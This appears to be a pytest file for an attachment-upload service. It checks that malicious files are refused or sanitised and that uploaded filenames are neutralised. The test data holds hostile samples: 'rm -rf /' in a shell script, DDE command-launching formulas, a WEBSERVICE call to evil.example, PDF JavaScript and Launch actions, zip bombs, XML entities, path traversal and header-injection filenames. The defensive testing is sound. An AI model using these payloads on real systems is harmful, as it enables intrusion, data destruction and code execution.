"""What strangers send: refused or made harmless, and nothing is left of what was refused."""

import io
import zipfile
from collections.abc import Callable
from typing import Any

import pikepdf
import pytest
from PIL import Image

from tests.acts import refusal
from tests.initiatives.attachments import making
from tests.initiatives.attachments.making import action, note, pdf, picture, repacked, root
from tests.initiatives.attachments.sending import (
    draft,
    fetched,
    listed,
    on_disk,
    send,
    sent,
    stored,
)
from tests.world import World

BROKEN, VAST = (422, "broken-file"), (422, "vast-file")
PROTECTED, ACTIVE = (422, "protected-file"), (422, "active-file")
UNKNOWN, LARGE = (415, "unknown-file"), (413, "file-too-large")
SCRIPT = "app.alert('x')"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
LIMIT = 15 * 1024 * 1024
RELS = "word/_rels/document.xml.rels"
XL_RELS = "xl/_rels/workbook.xml.rels"
OUTSIDE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DEEP_ZIP = making.zipped(inner=making.zipped(bomb=b"\0" * 1_000_000))


def relation(kind: str, mode: str = "External") -> tuple[str, str]:
    end = "</Relationships>"
    target = f'Id="rX" Type="{OUTSIDE}/{kind}" Target="http://evil.example/x" TargetMode="{mode}"'
    return end, f"<Relationship {target}/>{end}"


def embedded(document: pikepdf.Pdf) -> None:
    document.attachments["x.exe"] = b"MZ"


def locked() -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="a", user="b"))


def printable() -> bytes:
    """Return a PDF that anybody opens and whose owner has a password."""
    return pdf(encryption=pikepdf.Encryption(owner="a", user=""))


def lying_zip() -> bytes:
    """Return a sheet of which an entry says that it is smaller than it is."""
    whole = bytearray(repacked(making.xlsx(), {"xl/media/a.png": b"\0" * 5_000}))
    place = whole.rfind(b"PK\x01\x02", 0, whole.rfind(b"xl/media/a.png"))
    whole[place + 24 : place + 28] = (10).to_bytes(4, "little")
    return bytes(whole)


def overlapping() -> bytes:
    """Return a sheet in which two entries of the directory unpack the same bytes."""
    whole = repacked(making.xlsx(), {"xl/media/a.png": b"\0" * 5_000, "xl/media/b.png": b"\1"})
    first, second = (
        whole.rfind(b"PK\x01\x02", 0, whole.rfind(name))
        for name in (b"xl/media/a.png", b"xl/media/b.png")
    )
    return whole[: second + 42] + whole[first + 42 : first + 46] + whole[second + 46 :]


def locked_zip() -> bytes:
    """Return a sheet whose entries are marked as encrypted."""
    whole, mark = bytearray(making.xlsx()), 0
    while (mark := whole.find(b"PK\x01\x02", mark + 1)) >= 0:
        whole[mark + 8] |= 1
    return bytes(whole)


def field(words: str) -> bytes:
    """Return a letter with a field in it."""
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    run = f"{begin}<w:r><w:instrText>{words}</w:instrText></w:r>"
    swap = ("word/document.xml", "</w:p>", f"{run}</w:p>")
    return repacked(making.docx(), swap=swap)


REFUSED: dict[str, tuple[Callable[[], bytes], tuple[int, str]]] = {
    "nothing": (lambda: b"", (422, "empty-file")),
    "one byte": (lambda: b"\xff", UNKNOWN),
    "one byte over": (lambda: picture().ljust(LIMIT + 1, b"\0"), LARGE),
    "a GIF": (lambda: picture("GIF"), UNKNOWN),
    "a BMP": (lambda: picture("BMP"), UNKNOWN),
    "a TIFF": (lambda: picture("TIFF"), UNKNOWN),
    "an icon": (lambda: picture("ICO"), UNKNOWN),
    "an SVG": (lambda: SVG, UNKNOWN),
    "a page named as a photograph": (lambda: b"<!doctype html><script>alert(1)</script>", UNKNOWN),
    "a program": (lambda: b"MZ\x90\0" + b"\0" * 500, UNKNOWN),
    "another program": (lambda: b"\x7fELF" + b"\0" * 500, UNKNOWN),
    "a shell script": (lambda: b"#!/bin/sh\nrm -rf /\n", UNKNOWN),
    "plain text": ("Công thức".encode, UNKNOWN),
    "an old Office file, or one with a password": (
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000,
        PROTECTED,
    ),
    "a truncated JPEG": (lambda: picture(size=(900, 900), quality=95)[:4000], BROKEN),
    "the head of a JPEG": (lambda: b"\xff\xd8\xff\xe0", BROKEN),
    "a truncated PNG": (lambda: picture("PNG", mode="RGBA")[:150], BROKEN),
    "a truncated HEIC": (lambda: making.HEIC[:600], BROKEN),
    "100 megapixels in a small PNG": (lambda: making.tall_png(10_000, 10_000), VAST),
    "a PNG with a huge text": (lambda: making.wordy_png(40_000_000), BROKEN),
    "a PDF that runs a script": (
        lambda: pdf(root(OpenAction=action("JavaScript", JS=SCRIPT))),
        ACTIVE,
    ),
    "a PDF with a named script": (
        lambda: pdf(root(Names=pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[])))),
        ACTIVE,
    ),
    "a PDF that starts a program": (lambda: pdf(note("Link", A=action("Launch", F="x"))), ACTIVE),
    "a PDF that asks a server on opening": (
        lambda: pdf(root(OpenAction=action("URI", URI="http://evil.example"))),
        ACTIVE,
    ),
    "a PDF that acts when a page is shown": (
        lambda: pdf(lambda document: document.pages[0].__setitem__("/AA", pikepdf.Dictionary())),
        ACTIVE,
    ),
    "a PDF that sends a form": (lambda: pdf(note("Link", A=action("SubmitForm"))), ACTIVE),
    "a PDF with a file in it": (lambda: pdf(embedded), ACTIVE),
    "a PDF with a film": (lambda: pdf(note("RichMedia")), ACTIVE),
    "a PDF with an XFA form": (lambda: pdf(root(AcroForm=pikepdf.Dictionary(XFA="x"))), ACTIVE),
    "a PDF with a password": (locked, PROTECTED),
    "a PDF that may only be printed": (printable, PROTECTED),
    "a PDF cut off": (lambda: pdf()[:-200], BROKEN),
    "a PDF behind something else": (lambda: b"GIF89a\n" + pdf(), UNKNOWN),
    "a PDF with a ZIP behind": (lambda: pdf() + making.zipped(a=b"x" * 5_000), ACTIVE),
    "a PDF with a ZIP behind that ends as a PDF does": (
        lambda: pdf() + making.zipped(b"\nstartxref\n9\n%%EOF\n", a=b"x"),
        ACTIVE,
    ),
    "a PDF with a page behind": (lambda: pdf() + b"<script>alert(1)</script>", ACTIVE),
    "a PDF of 301 pages": (
        lambda: pdf(lambda document: [document.add_blank_page() for _ in range(300)]),
        VAST,
    ),
    "an ordinary ZIP": (lambda: making.zipped(a=b"x"), UNKNOWN),
    "a ZIP in a ZIP": (lambda: DEEP_ZIP, ACTIVE),
    "an archive in a sheet": (
        lambda: repacked(making.xlsx(), {"xl/media/a.png": DEEP_ZIP}),
        ACTIVE,
    ),
    "a bomb": (lambda: repacked(making.xlsx(), {"xl/media/a.xml": b"\0" * 70_000_000}), VAST),
    "a bomb of many parts": (
        lambda: repacked(making.xlsx(), {f"xl/media/{n}.png": b"x" for n in range(2_001)}),
        VAST,
    ),
    "a bomb that hides its size": (lying_zip, BROKEN),
    "a bomb whose parts lie over each other": (overlapping, ACTIVE),
    "a sheet with a password": (locked_zip, PROTECTED),
    "a way out of the folder": (lambda: repacked(making.xlsx(), {"../../x.xml": b"<a/>"}), BROKEN),
    "an absolute path": (lambda: repacked(making.docx(), {"/etc/x.xml": b"<a/>"}), BROKEN),
    "a docm": (lambda: repacked(making.docx(), {"word/vbaProject.bin": b"x"}), ACTIVE),
    "an xlsm": (lambda: repacked(making.xlsx(), {"xl/vbaProject.bin": b"x"}), ACTIVE),
    "an xlsm by its type": (
        lambda: repacked(
            making.xlsx(),
            swap=("[Content_Types].xml", "spreadsheetml.sheet.main", "macroEnabled.main"),
        ),
        ACTIVE,
    ),
    "a sheet with macros of 1992": (
        lambda: repacked(making.xlsx(), {"xl/macrosheets/sheet1.xml": b"<a/>"}),
        ACTIVE,
    ),
    "a letter with a template elsewhere": (
        lambda: repacked(making.docx(), swap=(RELS, *relation("attachedTemplate"))),
        ACTIVE,
    ),
    "a letter with a picture elsewhere": (
        lambda: repacked(making.docx(), swap=(RELS, *relation("image"))),
        ACTIVE,
    ),
    "a letter with an object": (
        lambda: repacked(making.docx(), {"word/embeddings/oleObject1.bin": b"x"}),
        ACTIVE,
    ),
    "a letter with a program in it": (
        lambda: repacked(making.docx(), {"word/media/x.exe": b"MZ"}),
        ACTIVE,
    ),
    "a sheet with a link to another": (
        lambda: repacked(making.xlsx(), {"xl/externalLinks/externalLink1.xml": b"<a/>"}),
        ACTIVE,
    ),
    "a sheet that asks another": (
        lambda: repacked(making.xlsx(), swap=(XL_RELS, *relation("externalLinkPath"))),
        ACTIVE,
    ),
    "a sheet that asks a server": (
        lambda: making.xlsx('=_xlfn.WEBSERVICE("http://evil.example")'),
        ACTIVE,
    ),
    "a sheet that starts a program": (lambda: making.xlsx("=cmd|' /C calc'!A0"), ACTIVE),
    "a letter that starts a program": (lambda: field("DDEAUTO c:\\\\cmd.exe"), ACTIVE),
    "a letter with entities": (
        lambda: repacked(
            making.docx(), {"word/x.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}
        ),
        ACTIVE,
    ),
    "a letter whose XML is broken": (
        lambda: repacked(making.docx(), {"word/x.xml": b"<a"}),
        BROKEN,
    ),
    "something before a sheet": (lambda: b"#!/bin/sh\n" + making.xlsx(), UNKNOWN),
    "something behind a sheet": (lambda: making.xlsx() + b"<script>", BROKEN),
}


@pytest.mark.parametrize("name", REFUSED)
async def test_it_is_refused_and_nothing_is_left_of_it(world: World, name: str) -> None:
    make, expected = REFUSED[name]
    told = await draft(world)
    async with world.untouched():
        answer = await send(world, told, make(), name="ảnh.jpg", sort="before")
        assert refusal(answer) == expected
    assert on_disk(world) == []
    assert await listed(world, told) == []


def _behind(extra: bytes) -> bytes:
    return picture() + extra


HARMLESS: dict[str, Callable[[], bytes]] = {
    "a JPEG with a ZIP behind": lambda: _behind(making.zipped(a=b"EVIL" * 9)),
    "a JPEG with a page in its comment": lambda: picture(comment=b"<script>EVIL</script>"),
    "a JPEG with a PDF behind": lambda: _behind(pdf() + b"EVIL"),
    "a PNG with a script behind": lambda: picture("PNG") + b"<?php EVIL ?>",
    "a JPEG with a TIFF that is none in its EXIF": lambda: picture(
        exif=b"Exif\0\0MM\0*EVIL\xff\xff"
    ),
    "a WebP with a page in its XMP": lambda: picture("WEBP", xmp=b"<script>EVIL</script>"),
    "a WebP that moves": lambda: picture(
        "WEBP", save_all=True, append_images=[Image.new("RGB", (640, 400), "green")]
    ),
    "a PNG that moves": lambda: picture(
        "PNG", save_all=True, append_images=[Image.new("RGB", (640, 400), "green")]
    ),
}


@pytest.mark.parametrize("name", HARMLESS)
async def test_it_is_made_harmless(world: World, name: str) -> None:
    made = await sent(world, await draft(world), HARMLESS[name](), name="../../x.php\0.exe")
    kept = stored(world)
    assert len(kept) == 2
    for content in kept.values():
        assert b"EVIL" not in content
        assert not zipfile.is_zipfile(io.BytesIO(content))
        shown = Image.open(io.BytesIO(content))
        assert getattr(shown, "n_frames", 1) == 1
        red = shown.convert("RGB").getpixel((20, 20))
        assert isinstance(red, tuple)
        assert red[0] > 240
    assert await fetched(world, made["url"]) in kept.values()


NAMES: tuple[tuple[Any, str], ...] = (
    ("../../etc/passwd", "passwd.pdf"),
    ("..\\..\\windows\\win.ini", "win.ini.pdf"),
    ("C:\\ảnh\\trước.PDF", "trước.pdf"),
    ("a\0b\r\nSet-Cookie: x=1.pdf", "abSet-Cookie_ x=1.pdf"),
    ("ảnh\u202efdp.exe", "ảnhfdp.exe.pdf"),
    ("quye\u0302\u0301t \u200b\u00a0 định.pdf", "quyết định.pdf"),
    ("...", "tệp.pdf"),
    ("", "tệp.pdf"),
    (".htaccess", "htaccess.pdf"),
    ("x.jpg", "x.pdf"),
    ("ă" * 500, "ă" * 120 + ".pdf"),
    ('";filename="x.html', "_;filename=_x.html.pdf"),
)


async def test_a_name_is_a_label_and_no_way_anywhere(world: World) -> None:
    told = await draft(world)
    for place, (given, kept) in enumerate(NAMES):
        made = await sent(world, told, pdf(root(Place=place)), name=given)
        assert made["name"] == kept, given
        answer = await world.client.get(made["url"])
        head = answer.headers["content-disposition"]
        assert head.startswith('attachment; filename="'), given
        assert head.isprintable(), given
        assert head.count('"') == 2, given
    assert {path.parent.parent.parent.name for path in on_disk(world)} == {"files"}
